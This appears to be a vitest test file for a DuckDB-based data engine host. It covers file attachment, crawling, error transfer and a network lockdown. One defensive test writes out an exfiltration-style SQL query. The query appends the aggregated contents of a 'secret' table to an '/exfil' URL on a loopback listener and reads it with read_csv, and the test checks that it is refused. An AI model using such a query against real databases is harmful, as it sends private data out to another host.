import { mkdtempSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as Comlink from 'comlink';
import { DuckDBInstance } from '@duckdb/node-api';
import { tableFromIPC } from 'apache-arrow';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DecantError } from '../../src/core/errors';
import { corsError, RemoteError } from '../../src/core/remote';
import { quoteLiteral } from '../../src/core/sql/quote';
import { registerErrorTransfer } from '../../src/engine/error-transfer';
import type { EngineClient } from '../../src/engine/client';
import type { EngineHost } from '../../workers/engine/engine-host';
import { checkHookedVersion, HOOKED_VERSION } from '../../workers/engine/runtime-hooks';
import { rowsOf } from './catalog-support';
import { oneSalesFile, salesTable } from '../support/sales-table';
import {
  createNodeEngineClient,
  createNodeEngineHost,
  DiskFile,
  fixtureFile,
} from '../support/engine-host';

let host: EngineHost;
let client: EngineClient;
/** A loopback listener that must never be asked anything. */
let listener: Server;
let port = 0;
const requests: string[] = [];

beforeAll(async () => {
  host = createNodeEngineHost();
  client = createNodeEngineClient(host);
  listener = createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.end('v\nleaked\n');
  });
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
  port = (listener.address() as { port: number }).port;
});
afterAll(() => {
  client?.terminate();
  listener?.close();
});

/** The rows of a console result, first page. */
async function rows(sql: string): Promise<Record<string, unknown>[]> {
  const r = await host.runSql(sql);
  return r.resultId ? rowsOf(await host.page(r.resultId, 0, 1000)) : [];
}

async function rejection(p: Promise<unknown>): Promise<DecantError> {
  const e = await p.then(
    () => null,
    (x: unknown) => x,
  );
  expect(e).toBeInstanceOf(DecantError);
  return e as DecantError;
}

describe('EngineHost on the Node bundle', () => {
  it('starts, registers a dropped file and inspects it', async () => {
    expect(await host.init()).toMatch(/^v\d+\.\d+/);
    await host.addFile('1', fixtureFile('sales/year=2024/month=01/part-0.csv'));
    const got = await host.inspect('1');
    expect(got.columns.map((c) => [c.name, c.type])).toEqual([
      ['id', 'BIGINT'],
      ['sku', 'VARCHAR'],
      ['price', 'DOUBLE'],
    ]);
    expect([got.rowCount, got.rowCountExact]).toEqual([2, true]);
    await host.removeFile('1');
    await expect(host.inspect('1')).rejects.toThrow(/^engine: no file with id 1/);
  });

  it('crawls dropped files through the host', async () => {
    const paths = ['year=2024/month=01/part-0.csv', 'year=2024/month=02/part-0.csv'];
    const progress: number[] = [];
    const got = await host.crawlFiles(
      'crawl-1',
      paths.map((path) => {
        const file = fixtureFile(`sales/${path}`);
        return { path, size: file.size, lastModified: file.lastModified, kind: 'csv', file };
      }),
      {},
      (p) => progress.push(p.done),
    );
    expect(got.skipped).toEqual([]);
    expect(got.files.map((f) => [f.path, f.classification, f.rowCount])).toEqual([
      ['year=2024/month=01/part-0.csv', 'csv', 2],
      ['year=2024/month=02/part-0.csv', 'csv', 1],
    ]);
    expect(got.files[0]?.columns.map((c) => c.type)).toEqual(['BIGINT', 'VARCHAR', 'DOUBLE']);
    expect(progress.at(-1)).toBe(2);
  });

  it('attaches a CSV, a JSON and a Parquet table through one call, and detaches them', async () => {
    await host.attachTable(
      salesTable(
        ['01', '02'].map((m) => ({
          path: `month=${m}/part-0.csv`,
          file: fixtureFile(`sales/year=2024/month=${m}/part-0.csv`),
          partitionValues: [m],
        })),
        { partitionKeys: [{ name: 'month', type: 'VARCHAR' }] },
      ),
    );
    expect(await rows('SELECT month, count(*) AS n FROM shop.sales GROUP BY 1 ORDER BY 1')).toEqual(
      [
        { month: '01', n: 2 },
        { month: '02', n: 1 },
      ],
    );
    await host.attachTable({
      database: 'shop',
      name: 'orders',
      classification: 'json',
      files: [{ path: 'orders.ndjson', file: fixtureFile('orders.ndjson') }],
    });
    expect(await rows('SELECT count(*) AS n FROM shop.orders')).toEqual([{ n: 3 }]);

    const dir = mkdtempSync(join(tmpdir(), 'decant-host-'));
    const parquet = join(dir, 'items.parquet');
    const native = await (await DuckDBInstance.create(':memory:')).connect();
    await native.run(
      `COPY (SELECT i AS id, 'x' || i AS label FROM range(5) t(i)) TO ${quoteLiteral(parquet)} (FORMAT parquet)`,
    );
    native.closeSync();
    await host.attachTable({
      database: 'shop',
      name: 'items',
      classification: 'parquet',
      columns: [
        { name: 'id', type: 'BIGINT' },
        { name: 'label', type: 'VARCHAR' },
      ],
      partitionKeys: [],
      files: [{ path: 'items.parquet', file: new DiskFile(parquet), partitionValues: [] }],
    });
    expect(await rows('SELECT sum(id)::BIGINT AS s, max(label) AS m FROM shop.items')).toEqual([
      { s: 10, m: 'x4' },
    ]);

    // Now a CSV table of the same name: the Parquet table gives way.
    await host.attachTable(salesTable(oneSalesFile('2025/01', fixtureFile), { name: 'items' }));
    expect(await rows('SELECT count(*) AS n FROM shop.items')).toEqual([{ n: 2 }]);

    for (const name of ['sales', 'orders', 'items']) {
      await host.detachTable('shop', name);
      const e = await rejection(host.runSql(`SELECT * FROM shop.${name}`));
      expect(e.message).toMatch(/does not exist/);
    }
    // Detaching what is not attached is fine.
    await host.detachTable('shop', 'never');
  });

  it('keeps the console’s result tables out of SHOW TABLES and information_schema', async () => {
    for (let i = 0; i < 3; i++) await host.runSql('SELECT 42 AS answer');
    await host.runSql('CREATE TABLE mine (a INTEGER)');
    const shown = (await rows('SHOW TABLES')).map((r) => r.name);
    expect(shown).toContain('mine');
    expect(shown.filter((n) => String(n).startsWith('decant_'))).toEqual([]);
    const all = (await rows('SHOW ALL TABLES')).map((r) => r.name);
    expect(all.filter((n) => String(n).startsWith('decant_'))).toEqual([]);
    const listed = await rows(
      "SELECT table_name FROM information_schema.tables WHERE table_name LIKE 'decant%'",
    );
    expect(listed).toEqual([]);
    const duck = await rows(
      "SELECT table_name FROM duckdb_tables() WHERE table_name LIKE 'decant%'",
    );
    expect(duck).toEqual([]);
    // The results still page.
    const r = await host.runSql('SELECT 7 AS x');
    expect(
      tableFromIPC(await host.page(r.resultId, 0, 1))
        .toArray()[0]
        ?.toJSON(),
    ).toEqual({ x: 7 });
  });
});

describe('SQL cannot reach the network behind the user’s back', () => {
  it('refuses a URL built from catalog data, and makes no request', async () => {
    await host.runSql("CREATE TABLE secret AS SELECT 'TOPSECRET' AS v");
    const url = `http://127.0.0.1:${port}/exfil?d=`;
    const e = await rejection(
      host.runSql(
        `SET VARIABLE u = (SELECT ${quoteLiteral(url)} || string_agg(v, ',') FROM secret);\n` +
          "SELECT * FROM read_csv(getvariable('u'))",
      ),
    );
    expect(e.message).toContain(
      `query: reading "http://127.0.0.1:${port}/exfil" is not allowed: add it as a source first`,
    );
    expect(e.message).not.toContain('TOPSECRET');
    expect(e.line).toBe(2);
  });

  it.each([
    ['read_csv', (u: string) => `SELECT * FROM read_csv(${quoteLiteral(u)})`],
    ['a bare path', (u: string) => `SELECT * FROM ${quoteLiteral(u)}`],
    ['a list', (u: string) => `SELECT * FROM read_csv([${quoteLiteral(u)}])`],
    ['COPY TO', (u: string) => `COPY (SELECT 1) TO ${quoteLiteral(u)}`],
    ['read_text', (u: string) => `SELECT * FROM read_text(${quoteLiteral(u)})`],
  ])('refuses %s of a URL that is not a source', async (_what, sql) => {
    const e = await rejection(
      host.runSql(sql(`http://127.0.0.1:${port}/data.csv?X-Amz-Signature=s`)),
    );
    expect(e.message).toContain(`reading "http://127.0.0.1:${port}/data.csv" is not allowed`);
    expect(e.message).not.toContain('X-Amz-Signature');
  });

  it('refuses https and s3 URLs too', async () => {
    for (const u of ['https://example.com/a.csv', 's3://bucket/key.csv']) {
      const e = await rejection(host.runSql(`SELECT * FROM read_csv(${quoteLiteral(u)})`));
      expect(e.message).toContain(`query: reading "${u}" is not allowed: add it as a source first`);
    }
  });

  it('refuses it in a job’s SQL too', async () => {
    const e = await rejection(
      host.prepareJobTarget('job-1', {
        sql: `SELECT * FROM read_csv(${quoteLiteral(`http://127.0.0.1:${port}/job.csv`)})`,
        partitionKeys: [],
        encoding: 'csv',
      }),
    );
    await host.endJobTarget('job-1');
    expect(e.message).toContain(
      `query: reading "http://127.0.0.1:${port}/job.csv" is not allowed: add it as a source first`,
    );
  });

  it('the listener was never asked anything', () => {
    expect(requests).toEqual([]);
  });
});

describe('errors cross comlink with every field', () => {
  it('a SQL error keeps its line and column through the client', async () => {
    const e = await rejection(client.runSql('SELECT 1;\nSELECT nope FROM nowhere'));
    expect(e.name).toBe('DecantError');
    expect(e.message).toMatch(/^sql: line 2: /);
    expect(e.line).toBe(2);
  });

  it('a RemoteError arrives as a RemoteError with its reason and CORS rule', async () => {
    registerErrorTransfer();
    const channel = new MessageChannel();
    const thrower = {
      fail(): never {
        throw corsError(
          new URL('https://b.s3.amazonaws.com/k.csv?X-Amz-Signature=x'),
          'https://app',
        );
      },
    };
    Comlink.expose(thrower, channel.port1 as unknown as Comlink.Endpoint);
    const remote = Comlink.wrap<{ fail(): void }>(channel.port2 as unknown as Comlink.Endpoint);
    const e = await remote.fail().then(
      () => null,
      (x: unknown) => x,
    );
    channel.port1.close();
    channel.port2.close();
    expect(e).toBeInstanceOf(RemoteError);
    const r = e as RemoteError;
    expect(r.reason).toBe('cors');
    expect(r.corsRule).toContain('"AllowedOrigins"');
    expect(r.corsRule).toContain('https://app');
    expect(r.message).toMatch(/^remote: https:\/\/b\.s3\.amazonaws\.com\/k\.csv: /);
  });

  it('an expired presigned URL is refused as a RemoteError, without a request', async () => {
    await client.addUrl('9', {
      kind: 'url',
      url:
        `http://127.0.0.1:${port}/old.csv?X-Amz-Algorithm=AWS4-HMAC-SHA256` +
        '&X-Amz-Date=20200101T000000Z&X-Amz-Expires=60&X-Amz-Signature=abc',
      size: 100,
      name: 'old.csv',
      lastModified: 0,
    });
    const e = await rejection(client.inspect('9'));
    expect(e).toBeInstanceOf(RemoteError);
    expect((e as RemoteError).reason).toBe('expired');
    expect(requests).toEqual([]);
  });
});

describe('the runtime hooks’ version guard', () => {
  it('accepts the version the hooks were written for and refuses any other', () => {
    expect(HOOKED_VERSION).toBe('1.32.0');
    expect(() => checkHookedVersion('1.32.0')).not.toThrow();
    expect(() => checkHookedVersion('1.33.1')).toThrow(
      /^engine: the DuckDB runtime hooks .* were written for @duckdb\/duckdb-wasm 1\.32\.0, but 1\.33\.1 is loaded/,
    );
  });
});
